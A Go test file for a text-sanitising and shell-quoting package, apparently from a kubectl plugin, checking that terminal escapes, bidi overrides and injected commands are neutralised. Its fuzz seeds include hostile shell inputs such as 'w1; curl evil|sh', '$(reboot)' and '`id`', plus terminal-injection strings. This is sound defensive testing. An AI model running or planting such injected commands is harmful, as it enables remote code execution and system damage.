// SPDX-License-Identifier: Apache-2.0

package text_test

import (
	"errors"
	"os/exec"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/kubectl-lifecycle/kubectl-lifecycle/pkg/text"
)

func TestATextIsOneSafeLine(t *testing.T) {
	cases := map[string]struct{ in, want string }{
		"words stay":                         {"node worker-1 is Ready", "node worker-1 is Ready"},
		"other languages stay":               {"节点 żółw", "节点 żółw"},
		"an escape sequence loses its power": {"a\x1b[2Jb", "a[2Jb"},
		"a C1 control goes":                  {"a\u009b2Jb", "a2Jb"},
		"line breaks become spaces":          {"a\n✓ done\r\nb", "a ✓ done b"},
		"a bidi override goes":               {"a\u202etxt.exe", "atxt.exe"},
		"an isolate and a mark go":           {"\u2066a\u2069\u200eb", "ab"},
		"a zero-width space goes":            {"a\u200bb", "ab"},
		"a line separator is a space":        {"a\u2028b", "a b"},
		"invalid UTF-8 goes":                 {"a\xff\xfeb", "ab"},
		"a tag character goes":               {"a\U000e0041b", "ab"},
		"nothing stays nothing":              {"\x00\x07", ""},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			if got := text.Line(c.in); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
	if got := text.Short(strings.Repeat("ü", 100), 10); got != strings.Repeat("ü", 9)+"…" {
		t.Errorf("a long text is cut to %q", got)
	}
	if got := text.Short("0123456789", 10); got != "0123456789" {
		t.Errorf("a text of just the bound becomes %q", got)
	}
}

func TestABlockCannotForgeALine(t *testing.T) {
	got := text.Block("the host is not clean:\n  mount /a\n✓ Clean the host\n\n\x1b[1Anode removed")
	want := "the host is not clean:\n  | mount /a\n  | ✓ Clean the host\n  | [1Anode removed"
	if got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

type named struct{ name string }

func (n named) String() string { return n.name }

func TestNoArgumentGoesAroundTheFilter(t *testing.T) {
	const evil = "x\x1b]0;evil\x07\u202ey"
	for name, arg := range map[string]any{
		"a text": evil, "an error": errors.New(evil), "a Stringer": named{evil}, "a struct": struct{ S string }{evil},
		"a pointer": &struct{ S string }{evil}, "a list": []string{evil}, "a list of errors": []error{errors.New(evil)},
		"a map": map[string]string{"k": evil}, "bytes": []byte(evil), "a type of text": plainType(evil),
	} {
		t.Run(name, func(t *testing.T) {
			for _, verb := range []string{"%v", "%s", "%+v"} {
				got := text.Sprintf("got "+verb+"\n", arg)
				if strings.ContainsAny(got, "\x1b\x07\u202e") {
					t.Errorf("%s prints %q", verb, got)
				}
			}
		})
	}
	if got := text.Sprintf("%d nodes, %5.1f, %t, %s, %q", 3, 1.5, true, 90*time.Second, "a"); got != `3 nodes,   1.5, true, 1m30s, "a"` {
		t.Errorf("plain values print as %q", got)
	}
	if got := text.Sprintf("%s", text.Safe("\x1b[32m✓\x1b[0m")); got != "\x1b[32m✓\x1b[0m" {
		t.Errorf("a safe text prints as %q", got)
	}
}

type plainType string

func FuzzAWordIsOneWordToAShell(f *testing.F) {
	for _, seed := range []string{"", "worker-1", "it's", "$(reboot)", "`id`", "a b", "~root", "-rf", "*", "a\nb", "w1; curl evil|sh", "\x1b", "{a,b}", "#x", "\\"} {
		f.Add(seed)
	}
	shell, err := exec.LookPath("sh")
	if err != nil {
		f.Skip("there is no shell")
	}
	f.Fuzz(func(t *testing.T, word string) {
		quoted := text.Quote(word)
		if strings.ContainsAny(quoted, "\n\x1b\x00") {
			t.Fatalf("%q is quoted as %q", word, quoted)
		}
		if len(quoted) > 32<<10 {
			t.Fatalf("a word of %d bytes", len(quoted))
		}
		out, err := exec.CommandContext(t.Context(), shell, "-c", "set -- "+quoted+`; printf '%s\n%s' "$#" "$1"`).CombinedOutput()
		if want := "1\n" + text.Line(word); err != nil || string(out) != want {
			t.Errorf("sh takes %s for %q (%v), want %q", quoted, out, err, want)
		}
	})
}

func FuzzWhatIsShownIsHarmless(f *testing.F) {
	f.Add("a\x1b[2J\nb\u202e\xff")
	f.Fuzz(func(t *testing.T, s string) {
		line, block := text.Line(s), text.Block(s)
		if utf8.RuneCountInString(line) > text.MaxLine || utf8.RuneCountInString(block) > 2*text.MaxBlock {
			t.Errorf("%d and %d characters", utf8.RuneCountInString(line), utf8.RuneCountInString(block))
		}
		for _, r := range line + strings.ReplaceAll(block, "\n", "") {
			if !unicode.IsPrint(r) {
				t.Errorf("%q holds %U", s, r)
			}
		}
		for _, l := range strings.Split(block, "\n")[1:] {
			if !strings.HasPrefix(l, "  | ") {
				t.Errorf("a line of %q begins as one of our own: %q", s, l)
			}
		}
		if text.Line(line) != line || text.Block(line) != line {
			t.Errorf("%q is filtered twice to another text", s)
		}
	})
}
